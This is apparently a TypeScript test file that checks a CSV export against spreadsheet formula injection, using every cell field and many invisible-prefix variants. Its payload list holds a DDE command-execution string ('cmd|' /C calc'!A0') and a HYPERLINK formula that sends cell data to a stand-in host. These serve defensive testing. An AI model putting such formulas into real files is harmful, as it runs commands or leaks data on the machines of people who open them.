import { describe } from 'vitest';
import { toNativeLine } from '../../datasets/selecting/native-line.ts';
import { columns } from '../../exports/tables/columns.ts';
import { csvHeader, writeCsvLine } from '../../exports/tables/csv.ts';
import { makeCandidate } from '../make-candidate.ts';
import { promise } from './promise.ts';

/** What programs skip before they look whether a cell is a formula: alone and in pairs. */
const skipped = [
  '',
  ' ',
  '\u00a0',
  '\n',
  '\r',
  '\t',
  '\r\n',
  '\u3000',
  '\u200b',
  '\u2060',
  '\ufeff',
  '\v',
  '\u2003',
  "'",
];
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const rests = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"a")', 'SUM(A1:A9)', '2","=3', '1";=4'];
const fronts = skipped.flatMap((one) => skipped.map((other) => one + other));
const payloads = fronts.flatMap((front) => starts.flatMap((start) => rests.map((rest) => front + start + rest)));

describe('cells of a CSV file', () => {
  promise(
    'S6',
    'hold no formula that a program would calculate, whatever stands in front of it, in any column',
    { short: { payloads: 1500 }, long: { payloads: 50_000 } },
    async ({ payloads: wanted }) => {
      const failures: string[] = [];
      let cells = 0;
      const step = Math.max(1, Math.floor(payloads.length / wanted));
      for (let at = 0; at < payloads.length; at += step) {
        const payload = payloads[at] ?? '';
        const [, row = []] = parseCsv(csvHeader + writeCsvLine(rowWith(payload), false));
        if (row.length !== columns.length) failures.push(`${JSON.stringify(payload)} makes ${row.length} cells`);
        for (const [place, cell] of row.entries()) {
          cells += 1;
          if (isLive(cell)) failures.push(`${columns[place]?.name}: ${JSON.stringify(cell)}`);
        }
        // It must be there to be tried, and as it was but for the mark in front.
        if (!row.some((cell) => cell === payload || cell === `'${payload}`))
          failures.push(`${JSON.stringify(payload)} is gone`);
      }
      return { tried: cells, lost: 0, failures: failures.slice(0, 10), note: `${columns.length} columns, cells` };
    },
  );
});

/** As a program for tables looks at a cell: space of any kind in front is skipped, wide forms count as narrow ones. */
function isLive(cell: string): boolean {
  return '=+-@'.includes([...cell.normalize('NFKC').replace(/^[\s\p{Cf}\p{Cc}]+/u, '')][0] ?? 'x');
}

/** RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** Wherever a product or a person can write. */
function rowWith(text: string) {
  const row = toNativeLine(
    makeCandidate({
      ...{ chosen: text, rejected: text, rubric: text },
      generation: {
        ...{ input: text, output: text, conversation_id: text, model: text, model_version: text, prompt_id: text },
        ...{
          prompt_version: text,
          provider: text,
          finish_reason: text,
          metadata: { [text]: text },
          context: [{ text }],
        },
      },
    }),
  );
  if (typeof row === 'string') throw new Error(row);
  return row;
}
